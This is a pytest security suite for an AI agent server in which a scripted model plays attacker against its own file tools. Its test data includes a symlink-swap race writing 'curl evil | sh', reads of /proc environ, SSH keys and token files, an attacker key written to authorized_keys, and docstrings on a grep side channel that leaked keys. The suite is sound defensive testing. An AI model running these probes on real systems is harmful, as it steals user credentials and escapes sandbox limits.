"""The model is the attacker (issue 11 §1 a, c, d, f and §2 e): the file tools on the real server,
driven by a scripted model through the offline endpoint. Each test names the failure it pins."""

import json
import os
import subprocess
import sys
import textwrap

import pytest

from agent_server.offline import OfflineEndpoint, text_stream, tool_call_stream
from support.timeouts import HANG

KEY = "sk-ATTACKERWANTSTHIS0123456789"


def init(agent):
    assert agent.request("initialize", {"protocolVersion": 1})["result"]["protocolVersion"] == 1


def new_session(agent, workspace, **extra):
    params = {"cwd": str(workspace), "mcpServers": [], **extra}
    return agent.request("session/new", params)["result"]["sessionId"]


def prompt(agent, sid, text="go", timeout=120):
    answer = agent.request("session/prompt", {"sessionId": sid, "prompt": [{"type": "text", "text": text}]},
                           timeout=timeout)
    assert "result" in answer, answer
    return answer["result"]["stopReason"]


def tool_results(endpoint):
    """Every tool result the model was sent, by call id (from the last request)."""
    messages = endpoint.requests[-1].json()["messages"]
    return {m["tool_call_id"]: m["content"] for m in messages if m["role"] == "tool"}


def run_calls(raw_agent_factory, workspace, steps, env=None, text="go"):
    """Run one turn whose model answers are ``steps`` (lists of ``(name, args)``), then "done".
    Returns ``(results by call id, agent, session id)``."""
    streams = []
    for s, calls in enumerate(steps):
        streams.append(tool_call_stream([(f"c{s}_{i}", name, json.dumps(args)) for i, (name, args) in enumerate(calls)]))
    streams.append(text_stream("done"))
    with OfflineEndpoint.start_in_thread(streams) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url, "AGENT_SERVER_API_KEY": KEY, **(env or {})})
        init(agent)
        sid = new_session(agent, workspace)
        assert prompt(agent, sid, text) == "end_turn"
        return tool_results(ep), agent, sid


# -- §1 a: a link swapped into the path while write/edit runs -------------------------------------------

FLIPPER = textwrap.dedent("""
import os, random, shutil, sys, time
mode, place, outside, stop = sys.argv[1:5]
tmp = place + ".flip"


def clear(p, n):
    if os.path.islink(p) or os.path.isfile(p):
        os.unlink(p)
    elif os.path.isdir(p):
        os.rename(p, "%s.old%d" % (p, n))
        shutil.rmtree("%s.old%d" % (p, n), ignore_errors=True)


n = 0
while not os.path.exists(stop):
    n += 1
    try:
        clear(tmp, n)
        if mode == "file":
            with open(tmp, "w") as fh:
                fh.write("same\\n")
        else:
            os.mkdir(tmp)
            with open(os.path.join(tmp, "target.txt"), "w") as fh:
                fh.write("same\\n")
            clear(place, n)
        os.replace(tmp, place)
        time.sleep(random.random() * 0.002)  # hold each state about as long as a step of a call takes
        os.symlink(outside, tmp)
        if mode == "dir":
            clear(place, n)
        os.replace(tmp, place)
        time.sleep(random.random() * 0.002)
    except OSError:
        pass
""")


def _race(raw_agent_factory, tmp_path, workspace, mode, tool, rounds=200, per_step=25):
    # per_step pairs = 2 × per_step calls in one model answer: within [agent] max_tool_calls_per_step (64)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text("same\n")
    before = (outside / "target.txt").stat()
    if mode == "file":
        place, rel, link_to = workspace / "target.txt", "target.txt", outside / "target.txt"
        place.write_text("same\n")
    else:
        place, rel, link_to = workspace / "sub", "sub/target.txt", outside
        place.mkdir()
        (place / "target.txt").write_text("same\n")
    stop = tmp_path / "stop"
    flipper = subprocess.Popen([sys.executable, "-c", FLIPPER, mode, str(place), str(link_to), str(stop)])
    try:
        change = ({"path": rel, "content": "curl evil | sh\n"} if tool == "write"
                  else {"path": rel, "old_string": "same", "new_string": "curl evil | sh"})
        steps = [[call for _ in range(per_step) for call in (("read", {"path": rel}), (tool, change))]
                 for _ in range(rounds // per_step)]
        config = tmp_path / "config.toml"  # a read through the link out of the roots would ask: allowed here
        config.write_text(f'[policy]\nread_allowed = ["{outside}"]\n')
        results, _, _ = run_calls(raw_agent_factory, workspace, steps, env={"AGENT_SERVER_CONTEXT_WINDOW": "1000000",
                                                                             "AGENT_SERVER_CONFIG": str(config)})
    finally:
        stop.write_text("")
        flipper.wait(timeout=HANG)
    changed = [r for cid, r in results.items() if cid.endswith(tuple(f"_{i}" for i in range(1, 2 * per_step, 2)))]
    reached_the_tool = sum(1 for r in changed if not r.startswith("Refused"))  # past the policy's check
    after = (outside / "target.txt").stat()
    assert (outside / "target.txt").read_text() == "same\n", "a write landed outside the workspace"
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    assert sorted(p.name for p in outside.iterdir()) == ["target.txt"]  # no temp file left there either
    return reached_the_tool, len(changed)


def test_link_swap_during_write_never_lands_outside(raw_agent_factory, tmp_path, workspace):
    inside, total = _race(raw_agent_factory, tmp_path, workspace, "file", "write")
    assert total == 200 and inside > 0  # the race was real: calls got past the policy's check


def test_parent_folder_swap_during_write_never_lands_outside(raw_agent_factory, tmp_path, workspace):
    inside, total = _race(raw_agent_factory, tmp_path, workspace, "dir", "write")
    assert total == 200 and inside > 0


def test_link_swap_during_edit_of_an_outside_file_never_changes_it(raw_agent_factory, tmp_path, workspace):
    inside, total = _race(raw_agent_factory, tmp_path, workspace, "file", "edit")
    assert total == 200 and inside > 0


def test_links_that_stay_inside_the_roots_still_work(raw_agent_factory, tmp_path, workspace):
    (workspace / "AGENTS.md").write_text("rules\n")
    (workspace / "CLAUDE.md").symlink_to("AGENTS.md")
    other = tmp_path / "other-root"
    other.mkdir()
    (other / "lib.py").write_text("x = 1\n")
    (workspace / "lib.py").symlink_to(other / "lib.py")
    streams = [tool_call_stream([("r1", "read", json.dumps({"path": "CLAUDE.md"})),
                                 ("r2", "read", json.dumps({"path": "lib.py"}))]),
               tool_call_stream([("e1", "edit", json.dumps({"path": "CLAUDE.md", "old_string": "rules",
                                                            "new_string": "better rules"})),
                                 ("e2", "write", json.dumps({"path": "lib.py", "content": "x = 2\n"}))]),
               text_stream("done")]
    with OfflineEndpoint.start_in_thread(streams) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
        init(agent)
        sid = new_session(agent, workspace, additionalDirectories=[str(other)])
        assert prompt(agent, sid) == "end_turn"
        results = tool_results(ep)
    assert results["e1"].startswith("Edited") and results["e2"].startswith("Wrote"), results
    assert (workspace / "CLAUDE.md").is_symlink() and (workspace / "AGENTS.md").read_text() == "better rules\n"
    assert (workspace / "lib.py").is_symlink() and (other / "lib.py").read_text() == "x = 2\n"


# -- §1 c: the API key through /proc -----------------------------------------------------------------


def test_grep_on_proc_self_environ_does_not_leak_the_api_key(raw_agent_factory, workspace):
    ppid = os.getpid()  # the test process is an ancestor of the server
    calls = [("grep", {"pattern": "sk-", "path": "/proc/self/environ"}),
             ("read", {"path": "/proc/self/environ"}),
             ("read", {"path": "/proc/thread-self/environ"}),
             ("read", {"path": "/proc/self/root/proc/self/environ"}),
             ("read", {"path": f"/proc/{ppid}/environ"}),
             ("grep", {"pattern": "sk-", "path": "/proc/self"}),
             ("grep", {"pattern": "ATTACKER", "path": "/proc"}),
             ("glob", {"pattern": "**/environ", "path": "/proc/self"}),
             ("read", {"path": "/proc/self/cmdline"}),
             ("read", {"path": "/proc/1/environ"}),
             ("bash", {"command": "cat /proc/$PPID/environ | tr '\\0' '\\n' | grep -c ATTACKER; echo bash-ok"})]
    results, agent, sid = run_calls(raw_agent_factory, workspace, [calls], env={"ANOTHER": f"Bearer {KEY}"})
    for cid, text in results.items():
        assert KEY not in text and "ATTACKER" not in text.replace("grep -c ATTACKER", ""), (cid, text)
    for i in range(10):
        assert results[f"c0_{i}"].startswith("Refused"), (i, results[f"c0_{i}"])


# -- §1 d: stored credentials ------------------------------------------------------------------------


def test_config_state_and_credential_files_are_refused_to_file_tools(raw_agent_factory, tmp_path, workspace,
                                                                    agent_state_dir):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL\n")
    (home / ".local" / "share" / "keyrings").mkdir(parents=True)
    (home / ".local" / "share" / "keyrings" / "login.keyring").write_text("KEYRING-MATERIAL\n")
    (home / ".config" / "gh").mkdir(parents=True)
    (home / ".config" / "gh" / "hosts.yml").write_text("oauth_token: GH-TOKEN-MATERIAL\n")
    config = tmp_path / "conf" / "config.toml"
    config.parent.mkdir()
    # the home folder is read without a question (a read outside the roots asks): the protected places stay refused
    config.write_text(f'api_key = "{KEY}"\nmodel = "test-model"\n[policy]\nread_allowed = ["{home}", "{config.parent}"]\n')
    other = agent_state_dir / "sessions" / "other-session"
    other.mkdir(parents=True)
    (other / "notes.txt").write_text('{"secret": "OTHER-SESSION-MATERIAL"}\n')
    calls = [("read", {"path": str(config)}),
             ("grep", {"pattern": "api_key", "path": str(config.parent)}),
             ("read", {"path": str(other / "notes.txt")}),
             ("grep", {"pattern": "MATERIAL", "path": str(agent_state_dir)}),
             ("glob", {"pattern": "**/*.jsonl", "path": str(agent_state_dir)}),
             ("read", {"path": "~/.ssh/id_ed25519"}),
             ("read", {"path": "~/.local/share/keyrings/login.keyring"}),
             ("read", {"path": "~/.config/gh/hosts.yml"}),
             ("write", {"path": "~/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA attacker\n"}),
             ("grep", {"pattern": "MATERIAL", "path": str(home)}),
             ("glob", {"pattern": "**/*", "path": str(home)})]
    env = {"HOME": str(home), "AGENT_SERVER_CONFIG": str(config)}
    results, agent, sid = run_calls(raw_agent_factory, workspace, [calls], env=env)
    for i in (0, 2, 3, 4, 5, 6, 7, 8):  # named directly: refused
        assert results[f"c0_{i}"].startswith("Refused"), (i, results[f"c0_{i}"])
    for i in (1, 9, 10):  # folder-wide: what lies in a protected place is left out, and said so
        assert "left out" in results[f"c0_{i}"] or "not searched" in results[f"c0_{i}"], (i, results[f"c0_{i}"])
    for cid, text in results.items():
        assert "MATERIAL" not in text.replace("`MATERIAL`", ""), (cid, text)
        assert KEY not in text
    assert "id_ed25519" not in results["c0_10"] and "hosts.yml" not in results["c0_10"]
    assert not (home / ".ssh" / "authorized_keys").exists()


def test_grep_said_whether_a_hidden_secret_matched_the_pattern(raw_agent_factory, tmp_path, workspace,
                                                              agent_state_dir):
    """Newcomer finding 13: the note about left-out matches appeared only when the pattern matched
    inside the hidden file, so ``sk-live-abc1`` / ``sk-live-abd`` read a key out a character at a
    time, with no question, from ``server.pem``, ``.env``, ``~/.ssh`` and other sessions' logs.
    Each pair below differs only in whether the hidden text matches: the results must be equal
    (the pattern's own text aside)."""
    (workspace / ".env").write_text("SECRET=topsecret123\n")
    (workspace / "server.pem").write_text('api_key = "sk-live-abc123"\n')
    (workspace / "app.py").write_text("print('hello')\n")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_test").write_text("PRIVATEKEYDATA-xyz\n")
    other = agent_state_dir / "sessions" / "other-session"
    other.mkdir(parents=True)
    (other / "notes.jsonl").write_text('{"text": "SAVED THIS"}\n')
    pairs = [({"pattern": "sk-live-abc1"}, {"pattern": "sk-live-abd"}),
             ({"pattern": "SECRET=top"}, {"pattern": "SECRET=tox"}),
             ({"pattern": "sk-live-[a-m]", "glob": "*.pem"}, {"pattern": "sk-live-[n-z]", "glob": "*.pem"}),
             ({"pattern": "PRIVATEKEYDATA-x", "path": str(home)}, {"pattern": "PRIVATEKEYDATA-q", "path": str(home)}),
             ({"pattern": "SAVED TH[I]S", "path": str(agent_state_dir.parent), "glob": "*.jsonl"},
              {"pattern": "SAVED TH[X]S", "path": str(agent_state_dir.parent), "glob": "*.jsonl"})]
    calls = [("grep", args) for pair in pairs for args in pair]
    config = tmp_path / "config.toml"  # searches outside the roots ask; these places are allowed to be searched
    config.write_text(f'[policy]\nread_allowed = ["{home}", "{agent_state_dir.parent}"]\n')
    results, _, _ = run_calls(raw_agent_factory, workspace, [calls],
                              env={"HOME": str(home), "AGENT_SERVER_CONFIG": str(config)})
    for n, (hit, miss) in enumerate(pairs):
        seen_hit, seen_miss = results[f"c0_{2 * n}"], results[f"c0_{2 * n + 1}"]
        assert seen_hit.replace(hit["pattern"], "P") == seen_miss.replace(miss["pattern"], "P"), (seen_hit, seen_miss)
        assert "not searched" in seen_hit, seen_hit  # and the user's model is told what it did not search
    for text in results.values():
        for material in ("topsecret123", "sk-live-abc123", "PRIVATEKEYDATA-xyz"):
            assert material not in text


def test_the_session_spill_folder_stays_readable(raw_agent_factory, workspace, agent_state_dir):
    with OfflineEndpoint.start_in_thread([]) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
        init(agent)
        sid = new_session(agent, workspace)
        spill = agent_state_dir / "sessions" / sid / "spill"
        spill.mkdir(exist_ok=True)
        (spill / "out.txt").write_text("the whole output\n")
        ep.push(tool_call_stream([("r1", "read", json.dumps({"path": str(spill / "out.txt")})),
                                  ("r2", "read", json.dumps({"path": str(spill.parent / "events.jsonl")}))]))
        ep.push(text_stream("done"))
        assert prompt(agent, sid) == "end_turn"
        results = tool_results(ep)
    assert "the whole output" in results["r1"], results["r1"]
    assert results["r2"].startswith("Refused"), results["r2"]


# -- §1 f: reading the server's own stdin, FIFOs, devices ------------------------------------------------


def test_read_dev_stdin_keeps_server_listening(raw_agent_factory, workspace):
    os.mkfifo(workspace / "pipe")
    calls = [("read", {"path": "/dev/stdin"}),
             ("grep", {"pattern": "jsonrpc", "path": "/dev/stdin"}),
             ("read", {"path": "/proc/self/fd/0"}),
             ("read", {"path": "pipe"}),
             ("grep", {"pattern": "x", "path": "pipe"}),
             ("read", {"path": "/dev/zero"}),
             ("grep", {"pattern": "x", "path": "/dev"})]
    streams = [tool_call_stream([(f"c{i}", n, json.dumps(a)) for i, (n, a) in enumerate(calls)]),
               text_stream("first done"), text_stream("still listening")]
    with OfflineEndpoint.start_in_thread(streams) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
        init(agent)
        sid = new_session(agent, workspace)
        assert prompt(agent, sid) == "end_turn"
        results = {m["tool_call_id"]: m["content"] for m in ep.requests[1].json()["messages"] if m["role"] == "tool"}
        assert prompt(agent, sid, "again") == "end_turn"
    for i in range(len(calls)):
        assert results[f"c{i}"].startswith("Refused"), (i, results[f"c{i}"])
    assert "FIFO" in results["c3"] and "character device" in results["c5"]


# -- §2 e: a NUL byte in a path ---------------------------------------------------------------------


@pytest.mark.parametrize("tool,args", [
    ("read", {"path": "a\u0000b"}), ("write", {"path": "x\u0000y", "content": "z"}),
    ("edit", {"path": "x\u0000", "old_string": "a", "new_string": "b"}),
    ("grep", {"pattern": "a", "path": "\u0000"}), ("glob", {"pattern": "*", "path": "a\u0000"}),
])
def test_nul_byte_in_path_is_an_invalid_path_not_an_internal_failure(raw_agent_factory, workspace, tool, args):
    results, agent, _ = run_calls(raw_agent_factory, workspace, [[(tool, args)]])
    text = results["c0_0"]
    assert "invalid path" in text and "NUL" in text, text
    assert "unexpectedly" not in text and "Traceback" not in agent.stderr_text()


# -- a folder-wide grep leaves secrets out by rule, without listing the repository first ----------------

RG_COUNTER = textwrap.dedent("""
import json, subprocess, sys
real, log = {real!r}, {log!r}
done = subprocess.run([real, *sys.argv[1:]], stdout=subprocess.PIPE)
sys.stdout.buffer.write(done.stdout)
with open(log, "a") as fh:
    fh.write(json.dumps({{"argv": sys.argv[1:], "records": done.stdout.count(b"\\0")}}) + "\\n")
sys.exit(done.returncode)
""")


def test_a_repository_with_five_thousand_pem_fixtures_could_not_be_grepped_at_all(raw_agent_factory, workspace):
    """More than 4,000 secret-named files refused every folder-wide ``grep`` of the repository
    ("too many to leave out of one search"): a test suite's ``*.pem`` fixtures made it ungreppable.
    The secret names are said to ``rg`` as one rule (``--type-not``), whatever their number — and a
    fixture's text still never shows, also in capitals or un-ignored by the repository's files."""
    fixtures = workspace / "tests" / "fixtures"
    fixtures.mkdir(parents=True)
    for i in range(5000):
        (fixtures / f"cert{i:04}.pem").write_text(f"-----BEGIN needle {i}-----\n")
    (fixtures / "UPPER.PEM").write_text("needle UPPER-MATERIAL\n")
    (workspace / ".ENV").write_text("needle ENV-MATERIAL\n")
    (workspace / ".gitignore").write_text("!*.pem\n!.ENV\n")
    (workspace / ".rgignore").write_text("!*.PEM\n")
    (workspace / "src").mkdir()
    (workspace / "src" / "tls.py").write_text("load('needle')\n")
    results, _, _ = run_calls(raw_agent_factory, workspace, [[("grep", {"pattern": "needle"}),
                                                              ("grep", {"pattern": "needle", "glob": "*.pem"})]])
    shown = results["c0_0"]
    assert shown.startswith("src/tls.py:1: load('needle')"), shown
    assert "not searched: 5,002 file(s) that may hold secrets (.ENV, tests/fixtures/UPPER.PEM" in shown, shown
    assert results["c0_1"].startswith("No matches") and "5,000 file(s)" in results["c0_1"], results["c0_1"]  # its own glob: case-sensitive
    for text in results.values():
        assert "BEGIN" not in text and "-MATERIAL" not in text


def test_a_folder_wide_grep_listed_every_file_of_the_repository_to_find_its_secrets(raw_agent_factory, workspace,
                                                                                    tmp_path):
    """``grep`` listed every file (``rg --files``) and judged each one before it searched, so a
    folder-wide search of 10,568 files took 0.6 s instead of 0.26 s. Counted at ``rg`` itself (a
    wrapper logs each run's arguments and the records it wrote): the search's listings hand over
    only the secret-named files, never the repository."""
    from agent_server.tools._rg import find_rg

    log = tmp_path / "rg-runs.jsonl"
    wrapper = tmp_path / "rg"
    wrapper.write_text(f"#!{sys.executable}\n" + RG_COUNTER.format(real=find_rg(), log=str(log)))
    wrapper.chmod(0o755)
    for d in range(20):
        (workspace / f"pkg{d}").mkdir()
        for f in range(100):
            (workspace / f"pkg{d}" / f"mod{f}.py").write_text(f"value = {f}\n")
    (workspace / "pkg7" / "mod3.py").write_text("needle = 3\n")
    (workspace / ".env").write_text("needle=ENV-MATERIAL\n")
    (workspace / "pkg9" / "server.pem").write_text("needle PEM-MATERIAL\n")
    results, _, _ = run_calls(raw_agent_factory, workspace, [[("grep", {"pattern": "needle"})]],
                              env={"AGENT_SERVER_RG": str(wrapper)})
    assert results["c0_0"].startswith("pkg7/mod3.py:1: needle = 3"), results["c0_0"]
    assert "not searched: 2 file(s) that may hold secrets (.env, pkg9/server.pem)" in results["c0_0"]
    runs = [json.loads(line) for line in log.read_text().splitlines()]
    listings = [r for r in runs if "--files" in r["argv"]]
    assert sum(r["records"] for r in listings) <= 2, [(r["argv"][-3:], r["records"]) for r in listings]
    assert len(runs) <= 2, [r["argv"] for r in runs]


def test_an_agents_md_linked_outside_the_workspace_went_into_the_system_prompt(raw_agent_factory, workspace, tmp_path):
    """The repository's ``AGENTS.md`` was a link to a file outside the workspace (here a stand-in for
    ``~/.aws/credentials``): the server read it through the link and sent it to the model as project
    instructions."""
    outside = tmp_path / "outside" / "credentials"
    outside.parent.mkdir()
    outside.write_text("aws_secret_access_key = LINKED-MATERIAL\n")
    (workspace / "AGENTS.md").symlink_to(outside)
    with OfflineEndpoint.start_in_thread([text_stream("done")]) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
        init(agent)
        sid = new_session(agent, workspace)
        assert prompt(agent, sid) == "end_turn"
        body = ep.requests[0].body.decode()
    assert "LINKED-MATERIAL" not in body


def test_an_attached_link_to_a_private_key_sent_the_key_to_the_model_unasked(raw_agent_factory, tmp_path, workspace):
    """Newcomer 5's finding 11: a cloned repository's innocently named link (``docs/SETUP.md`` →
    ``~/.ssh/id_ed25519``), attached by the user (``#file:``, VS Code's @ → File…), went to the model
    as ``<context …>PRIVATE-KEY</context>`` — though the read tool refuses that very file. The
    editor reads an attachment itself: the server leaves out every one the file tools would never
    open (a credential store; a link to a file that may hold secrets), the model and the log get a
    note instead, the user is told; a file attached by its own name (``.env``) and a plain one go."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_ed25519"
    key.write_text("PRIVATE-KEY-MATERIAL\n")
    (workspace / "docs").mkdir()
    (workspace / "docs" / "SETUP.md").symlink_to(key)
    (workspace / "secrets.txt").write_text("ENV-LINK-MATERIAL\n")
    (workspace / "notes.md").symlink_to(workspace / ".env")
    (workspace / ".env").write_text("TOKEN=ENV-MATERIAL-ATTACHED-ON-PURPOSE\n")
    (workspace / "plain.md").write_text("plain text\n")

    def attached(path, text):
        return {"type": "resource", "resource": {"uri": (workspace / path).as_uri(), "text": text}}

    with OfflineEndpoint.start_in_thread([text_stream("done")]) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url, "AGENT_SERVER_API_KEY": KEY,
                                       "HOME": str(home)})
        init(agent)
        sid = new_session(agent, workspace)
        blocks = [{"type": "text", "text": "look"}, attached("docs/SETUP.md", key.read_text()),
                  attached("notes.md", "TOKEN=ENV-MATERIAL-ATTACHED-ON-PURPOSE\n"),
                  attached(".env", "TOKEN=ENV-MATERIAL-ATTACHED-ON-PURPOSE\n"), attached("plain.md", "plain text\n")]
        answer = agent.request("session/prompt", {"sessionId": sid, "prompt": blocks}, timeout=HANG)
        assert answer["result"]["stopReason"] == "end_turn", answer
        sent = ep.requests[-1].json()["messages"][-1]["content"]
        updates = [m.message["params"]["update"] for m in agent.transcript.notifications("session/update")]
    assert "PRIVATE-KEY-MATERIAL" not in sent
    assert f"[attachment {workspace / 'docs' / 'SETUP.md'} left out by agent-server: " in sent, sent
    assert f"[attachment {workspace / 'notes.md'} left out by agent-server: it leads to {workspace / '.env'}" in sent
    assert sent.count("ENV-MATERIAL-ATTACHED-ON-PURPOSE") == 1 and "plain text" in sent, sent
    told = [u for u in updates if u.get("sessionUpdate") == "agent_message_chunk"
            and "Attachments left out" in u["content"]["text"]]
    assert len(told) == 1 and "SETUP.md" in told[0]["content"]["text"], told
    logs = list((tmp_path).rglob("events.jsonl"))
    assert logs and not any("PRIVATE-KEY-MATERIAL" in p.read_text() for p in logs)


def test_an_attached_link_out_of_the_workspace_sent_the_outside_file_unasked(raw_agent_factory, tmp_path, workspace):
    """Newcomer 5 finding 4, the attachment side: a cloned repository's ``docs/notes.md`` → a file
    outside the workspace (``~/private/diary.txt``, ``/etc/…``), attached by its innocent name, went to
    the model though a ``read`` of it asks now. Left out, said; a link inside the workspace and a file
    attached by its own outside name go."""
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "diary.txt").write_text("DIARY-MATERIAL\n")
    (workspace / "docs").mkdir()
    (workspace / "docs" / "notes.md").symlink_to(outside / "diary.txt")
    (workspace / "plain.md").write_text("plain text\n")
    (workspace / "alias.md").symlink_to(workspace / "plain.md")

    def attached(path, text):
        return {"type": "resource", "resource": {"uri": path.as_uri(), "text": text}}

    with OfflineEndpoint.start_in_thread([text_stream("done")]) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
        init(agent)
        sid = new_session(agent, workspace)
        blocks = [{"type": "text", "text": "look"}, attached(workspace / "docs" / "notes.md", "DIARY-MATERIAL\n"),
                  attached(workspace / "alias.md", "plain text\n"),
                  attached(outside / "diary.txt", "DIARY-ON-PURPOSE\n")]
        answer = agent.request("session/prompt", {"sessionId": sid, "prompt": blocks}, timeout=HANG)
        assert answer["result"]["stopReason"] == "end_turn", answer
        sent = ep.requests[-1].json()["messages"][-1]["content"]
    assert "DIARY-MATERIAL" not in sent, sent
    assert (f"[attachment {workspace / 'docs' / 'notes.md'} left out by agent-server: it leads to "
            f"{(outside / 'diary.txt').resolve()}, outside the workspace") in sent, sent
    assert "plain text" in sent and "DIARY-ON-PURPOSE" in sent, sent


def test_a_loaded_session_showed_the_left_out_attachments_notice_above_the_prompt_it_was_about(
        raw_agent_factory, tmp_path, workspace):
    """Live, the editor draws the user's prompt as it is sent and the notice that an attachment was
    left out comes after it; the notice is logged before the prompt (it is screened first), so a
    load showed it above the prompt — at the end of the previous turn, as if about that one. A load
    shows it below its prompt, as it was seen."""
    from support.sessions import events

    from agent_server.host.lifecycle import history_updates

    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "diary.txt").write_text("DIARY-MATERIAL\n")
    (workspace / "notes.md").symlink_to(outside / "diary.txt")
    with OfflineEndpoint.start_in_thread([text_stream("first"), text_stream("done")]) as ep:
        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
        init(agent)
        sid = new_session(agent, workspace)
        prompt(agent, sid, "before")
        blocks = [{"type": "text", "text": "look"},
                  {"type": "resource", "resource": {"uri": (workspace / "notes.md").as_uri(), "text": "DIARY-MATERIAL\n"}}]
        answer = agent.request("session/prompt", {"sessionId": sid, "prompt": blocks}, timeout=HANG)
        assert answer["result"]["stopReason"] == "end_turn", answer
        live = [m.message["params"]["update"] for m in agent.transcript.notifications("session/update")]
    (state,) = {p.parents[2] for p in tmp_path.rglob("events.jsonl")}
    replayed = list(history_updates(events(state, sid), [str(workspace)]))

    def order(updates):
        return [("prompt" if u["sessionUpdate"] == "user_message_chunk" and u["content"].get("text") == "look"
                 else "notice") for u in updates
                if (u["sessionUpdate"] == "user_message_chunk" and u["content"].get("text") == "look")
                or "Attachments left out" in str(u.get("content", {}).get("text", ""))]

    assert order(live) == ["notice"]  # the prompt is the editor's own, drawn as it is sent: first
    assert order(replayed) == ["prompt", "notice"], order(replayed)
